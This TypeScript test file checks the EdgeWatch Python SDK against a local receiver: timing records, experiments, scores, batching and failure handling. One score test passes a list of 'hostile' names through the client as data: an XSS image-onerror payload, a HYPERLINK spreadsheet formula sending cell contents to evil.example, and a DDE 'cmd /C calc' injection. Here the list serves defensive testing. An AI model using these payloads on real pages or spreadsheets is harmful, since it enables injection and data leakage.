// The Python client (sdk/python/edgewatch.py) in real python3 processes against the real agent
// receiver in this process; a recording sink shows what arrived. Skipped only when python3 is
// missing and EDGEWATCH_REQUIRE_PYTHON is not '1'.
import { execFile, execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { InferenceReceiver } from '../../agent/inference/receiver.js';
import { EXPERIMENT_ID_RE, MODEL_NAME_RE, parseTimingLine, SCORE_NAME_RE } from '../../shared/inference.js';
import { REPO_ROOT } from '../helpers/processes.js';
import { deadPort, startReceiver, until, type RecordingSink } from './receiver-harness.js';

const PYTHON = process.env.EDGEWATCH_PYTHON ?? 'python3';
const SDK_DIR = join(REPO_ROOT, 'sdk/python');

function pythonVersion(): string | null {
  try {
    return execFileSync(PYTHON, ['-c', 'import sys; print("%d.%d" % sys.version_info[:2])'], { encoding: 'utf8', timeout: 10_000 }).trim();
  } catch {
    return null;
  }
}

const version = pythonVersion();
const required = process.env.EDGEWATCH_REQUIRE_PYTHON === '1';
const skip = version === null && !required;

interface PyResult {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

/** Runs `script` with edgewatch importable; resolves with its exit code and output. */
function python(script: string, env: Record<string, string> = {}, timeoutMs = 15_000): Promise<PyResult> {
  const started = performance.now();
  return new Promise((resolve) => {
    execFile(
      PYTHON,
      ['-c', script],
      {
        cwd: REPO_ROOT,
        timeout: timeoutMs,
        env: { ...process.env, PYTHONPATH: SDK_DIR, PYTHONDONTWRITEBYTECODE: '1', EDGEWATCH_EXPERIMENT: '', ...env },
      },
      (err, stdout, stderr) => {
        const code = err ? ((err as { code?: unknown }).code as number | null) ?? null : 0;
        resolve({ code: typeof code === 'number' ? code : null, stdout, stderr, ms: performance.now() - started });
      },
    );
  });
}

/** The last line of stdout as JSON (the scripts print their stats there). */
function lastJson<T>(r: PyResult): T {
  const lines = r.stdout.trim().split('\n');
  return JSON.parse(lines[lines.length - 1]!) as T;
}

function ok(r: PyResult): void {
  expect(r.stderr, 'python stderr').toBe('');
  expect(r.code, `python exit code; stdout: ${r.stdout}`).toBe(0);
}

let receiver: InferenceReceiver;
let sink: RecordingSink;
let port: number;

describe.skipIf(skip)(`Python client (${version ?? 'python3 missing'})`, () => {
  beforeEach(async () => {
    ({ receiver, sink, port } = await startReceiver());
  });

  afterEach(async () => {
    await receiver.close();
  });

  it('runs on Python ≥ 3.8', () => {
    expect(version, `${PYTHON} not found`).not.toBeNull();
    const [major, minor] = version!.split('.').map(Number);
    expect(major! * 100 + minor!).toBeGreaterThanOrEqual(308);
  });

  it('uses the agent’s name rules', () => {
    const py = readFileSync(join(SDK_DIR, 'edgewatch.py'), 'utf8');
    expect(py).toContain(`MODEL_NAME_RE = re.compile(r"${MODEL_NAME_RE.source}")`);
    expect(py).toContain(`EXPERIMENT_ID_RE = re.compile(r"${EXPERIMENT_ID_RE.source}")`);
    expect(py).toContain(`SCORE_NAME_RE = re.compile(r"${SCORE_NAME_RE.source}")`);
  });

  describe.each(['udp', 'http'])('over %s', (transport) => {
    it('delivers record(), timed() blocks and decorated functions (sync and async), only successes', async () => {
      const r = await python(
        `
import asyncio, json, time, edgewatch
edgewatch.configure(transport=${JSON.stringify(transport)})
edgewatch.record("resnet18-int8", 12.37, batch=8, tags={"device": "cpu", "note": "two words"}, t=1700000000123)
with edgewatch.timed("block-model", batch=4) as t:
    time.sleep(0.03)

@edgewatch.timed("sync-fn")
def double(x):
    return 2 * x

@edgewatch.timed("async-fn", tags={"kind": "coro"})
async def later():
    await asyncio.sleep(0.01)
    return "done"

assert double(21) == 42
assert asyncio.run(later()) == "done"
mine = ValueError("mine")
try:
    with edgewatch.timed("failing"):
        raise mine
except ValueError as e:
    assert e is mine
try:
    double("x", "too many")
except TypeError:
    pass
edgewatch.record("has space", 1)
edgewatch.record("m", float("nan"))
edgewatch.flush()
print(json.dumps(dict(edgewatch.stats(), block_ms=t.ms)))
`,
        { EDGEWATCH_INFERENCE_PORT: String(port) },
      );
      ok(r);
      const stats = lastJson<{ sent: number; dropped: number; invalid: number; block_ms: number }>(r);
      expect(stats).toMatchObject({ sent: 4, dropped: 2, invalid: 2 });
      await until('four timings', () => sink.timings.length === 4);
      expect(sink.timings[0]).toEqual({
        model: 'resnet18-int8',
        latencyMs: 12.37,
        batch: 8,
        t: 1700000000123,
        tags: { device: 'cpu', note: transport === 'udp' ? 'two_words' : 'two words' },
      });
      expect(sink.timings.map((t) => t.model)).toEqual(['resnet18-int8', 'block-model', 'sync-fn', 'async-fn']);
      expect(sink.timings[1]).toMatchObject({ batch: 4 });
      expect(sink.timings[1]!.latencyMs).toBeGreaterThanOrEqual(25);
      expect(sink.timings[1]!.latencyMs).toBeCloseTo(stats.block_ms, 3);
      expect(sink.timings[3]).toMatchObject({ tags: { kind: 'coro' } });
      expect(sink.timings[3]!.latencyMs).toBeGreaterThanOrEqual(8);
      expect(receiver.stats().rejected).toBe(0);
      // Batched: a datagram or request goes when the oldest line has waited 10 ms (after the
      // sleeps here), not one per timing.
      expect(transport === 'udp' ? receiver.stats().udpDatagrams : receiver.stats().httpRequests).toBeLessThanOrEqual(3);
    });

    it('sends what is still buffered when the script ends', async () => {
      const r = await python(
        `
import edgewatch
c = edgewatch.Client(transport=${JSON.stringify(transport)}, flush_ms=60000)
for i in range(3):
    c.record("at-exit", i)
`,
        { EDGEWATCH_INFERENCE_PORT: String(port) },
      );
      ok(r);
      await until('three timings', () => sink.timings.length === 3);
      expect(sink.timings.map((t) => t.latencyMs)).toEqual([0, 1, 2]);
    });

    it('experiment() starts and ends an experiment and tags what is recorded inside, child processes included', async () => {
      const r = await python(
        `
import json, subprocess, sys, edgewatch
edgewatch.configure(transport=${JSON.stringify(transport)})
edgewatch.record("m", 1)
with edgewatch.experiment("int8 vs fp32", tags={"quant": "int8"}, params=11689512, model_bytes=46830571) as exp_id:
    edgewatch.record("m", 2)
    with edgewatch.experiment("nested") as inner:
        assert inner == exp_id, (inner, exp_id)
        edgewatch.record("m", 3)
    subprocess.run([sys.executable, "-c", "import edgewatch; edgewatch.record('child', 4)"], check=True)
edgewatch.record("m", 5)
edgewatch.flush()
print(json.dumps({"id": exp_id}))
`,
        { EDGEWATCH_INFERENCE_PORT: String(port) },
      );
      ok(r);
      const { id } = lastJson<{ id: string }>(r);
      expect(id).toMatch(EXPERIMENT_ID_RE);
      expect(sink.experiments).toEqual([
        {
          id,
          start: { name: 'int8 vs fp32', tags: { quant: 'int8' }, params: 11689512, modelBytes: 46830571 },
          startedAt: expect.any(Number),
          endedAt: expect.any(Number),
        },
      ]);
      await until('five timings', () => sink.timings.length === 5);
      const byLatency = Object.fromEntries(sink.timings.map((t) => [t.latencyMs, t.experiment ?? null]));
      expect(byLatency).toEqual({ 1: null, 2: id, 3: id, 4: id, 5: null });
      // The timings inside reached the agent before the experiment ended.
      expect(sink.experiments[0]!.endedAt).toBeGreaterThanOrEqual(sink.experiments[0]!.startedAt);
    });

    it('score() reaches the agent inside the experiment, with its warm-up, hostile names intact, invalid ones never raising', async () => {
      const hostile = ['<img src=x onerror=alert(1)>', '=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", 'top-1 (ImageNet) — 精度 ✓ 🚀', '"quoted", \\back\\slash'];
      const r = await python(
        `
import json, subprocess, sys, edgewatch
edgewatch.configure(transport=${JSON.stringify(transport)})
hostile = json.loads(${JSON.stringify(JSON.stringify(hostile))})
results = []
results.append(edgewatch.score("top1", 0.5))  # no experiment open: dropped
with edgewatch.experiment("int8 quality", warmup_calls=20) as exp_id:
    edgewatch.record("m", 1)
    results.append(edgewatch.score("top1", 0.912, better="higher"))
    results.append(edgewatch.score("WER", 7.25, better="lower"))
    results.append(edgewatch.get_client().score("top5", 0.99))
    for i, name in enumerate(hostile):
        results.append(edgewatch.score(name, i + 0.5, better="lower" if i % 2 else "higher"))
    for name, value, better in [("top1", float("nan"), "higher"), ("top1", float("inf"), "higher"), ("top1", "1e999", "higher"),
                                ("top1", 10 ** 400, "higher"), ("top1", True, "higher"), ("top1", 1, "more"),
                                ("tab\\there", 1, "higher"), ("x" * 65, 1, "higher"), ("", 1, "higher")]:
        results.append(edgewatch.score(name, value, better=better))
    subprocess.run([sys.executable, "-c", "import edgewatch; assert edgewatch.score('from-child', 3)"], check=True)
with edgewatch.experiment("timed warm-up", warmup_ms=5000) as timed_id:
    pass
results.append(edgewatch.score("late", 1, experiment=exp_id))  # ended: the agent says 404
print(json.dumps(dict(edgewatch.stats(), id=exp_id, timed=timed_id, results=results)))
`,
        { EDGEWATCH_INFERENCE_PORT: String(port) },
      );
      ok(r);
      const out = lastJson<{ id: string; timed: string; results: boolean[]; sent: number; dropped: number; invalid: number; errors: number }>(r);
      expect(out.results).toEqual([false, true, true, true, ...hostile.map(() => true), ...Array(9).fill(false), false]);
      expect(out).toMatchObject({ sent: 1 + 3 + hostile.length, dropped: 1 + 9 + 1, invalid: 9, errors: 1 });
      expect(sink.experiments.map((e) => [e.id, e.start])).toEqual([
        [out.id, { name: 'int8 quality', warmup: { calls: 20 } }],
        [out.timed, { name: 'timed warm-up', warmup: { ms: 5000 } }],
      ]);
      // One request per score, each taken while the experiment was open, exactly as sent.
      expect(sink.scores.every((b) => b.id === out.id && b.scores.length === 1)).toBe(true);
      expect(sink.scores.map((b) => b.scores[0])).toEqual([
        { name: 'top1', value: 0.912, better: 'higher' },
        { name: 'WER', value: 7.25, better: 'lower' },
        { name: 'top5', value: 0.99, better: 'higher' },
        ...hostile.map((name, i) => ({ name, value: i + 0.5, better: i % 2 ? 'lower' : 'higher' })),
        { name: 'from-child', value: 3, better: 'higher' },
      ]);
      expect(receiver.stats().rejected).toBe(0);
    });

    it('reuses EDGEWATCH_EXPERIMENT without starting or ending one', async () => {
      const r = await python(
        `
import edgewatch
edgewatch.configure(transport=${JSON.stringify(transport)})
with edgewatch.experiment("ignored") as exp_id:
    assert exp_id == "x-from-parent", exp_id
    edgewatch.record("m", 1)
edgewatch.record("m", 2)
`,
        { EDGEWATCH_INFERENCE_PORT: String(port), EDGEWATCH_EXPERIMENT: 'x-from-parent' },
      );
      ok(r);
      await until('two timings', () => sink.timings.length === 2);
      expect(sink.experiments).toEqual([]);
      expect(sink.timings.map((t) => t.experiment)).toEqual(['x-from-parent', 'x-from-parent']);
    });

    it('never raises nor blocks when nothing listens, and counts what it drops', async () => {
      const r = await python(
        `
import json, time, edgewatch
edgewatch.configure(transport=${JSON.stringify(transport)})
started = time.monotonic()
for i in range(20):
    for j in range(100):
        edgewatch.record("m", j)
    edgewatch.flush()
    time.sleep(0.002)
with edgewatch.experiment("nobody home") as exp_id:
    assert exp_id is None
    with edgewatch.timed("m"):
        pass
print(json.dumps(dict(edgewatch.stats(), seconds=time.monotonic() - started)))
`,
        { EDGEWATCH_INFERENCE_PORT: String(await deadPort()) },
      );
      ok(r);
      const stats = lastJson<{ sent: number; dropped: number; errors: number; seconds: number }>(r);
      expect(stats.dropped).toBeGreaterThan(0);
      expect(stats.errors).toBeGreaterThan(0);
      if (transport === 'http') expect(stats).toMatchObject({ sent: 0, dropped: 2000 });
      expect(stats.seconds).toBeLessThan(3);
      expect(r.ms).toBeLessThan(10_000);
    });

    it('takes thousands of records in a tight loop without blocking', async () => {
      const r = await python(
        `
import json, time, edgewatch
edgewatch.configure(transport=${JSON.stringify(transport)})
n = 20000
started = time.perf_counter()
for i in range(n):
    edgewatch.record("tight-loop", i % 100, batch=4)
elapsed = time.perf_counter() - started
edgewatch.flush()
print(json.dumps(dict(edgewatch.stats(), seconds=elapsed, n=n)))
`,
        { EDGEWATCH_INFERENCE_PORT: String(port) },
      );
      ok(r);
      const stats = lastJson<{ sent: number; dropped: number; pending: number; seconds: number; n: number }>(r);
      expect(stats.seconds).toBeLessThan(10); // a sanity bound, not a benchmark
      expect(stats.sent + stats.dropped).toBe(stats.n);
      expect(stats.pending).toBe(0);
      await until('timings from the loop', () => sink.timings.length >= Math.min(1000, stats.sent));
      if (transport === 'http') await until('every sent timing', () => sink.timings.length === stats.sent);
      expect(receiver.stats().rejected).toBe(0);
    });
  });

  it('puts lines on the wire that the agent parses back exactly', async () => {
    const r = await python(`
import edgewatch
print(edgewatch.encode_line("a/b:c@d+e_f.g", 0.123456789, batch=1000000, experiment="x-lq2v3k-9f3a", t=1700000000123, tags={"device": "cpu", "k.e-y_1": "v=w"}))
`);
    ok(r);
    expect(parseTimingLine(r.stdout.trim())).toEqual({
      ok: true,
      timing: { model: 'a/b:c@d+e_f.g', latencyMs: 0.1235, batch: 1_000_000, experiment: 'x-lq2v3k-9f3a', t: 1700000000123, tags: { device: 'cpu', 'k.e-y_1': 'v=w' } },
    });
  });

  it('passes its own unittest suite (test/sdk/python/test_edgewatch.py)', async () => {
    const r = await new Promise<PyResult>((resolve) => {
      const started = performance.now();
      execFile(
        PYTHON,
        ['-m', 'unittest', 'discover', '-s', join(REPO_ROOT, 'test/sdk/python'), '-p', 'test_*.py'],
        { cwd: REPO_ROOT, timeout: 60_000, env: { ...process.env, PYTHONPATH: SDK_DIR, PYTHONDONTWRITEBYTECODE: '1' } },
        (err, stdout, stderr) => resolve({ code: err ? 1 : 0, stdout, stderr, ms: performance.now() - started }),
      );
    });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/\nOK\b/);
  });
});
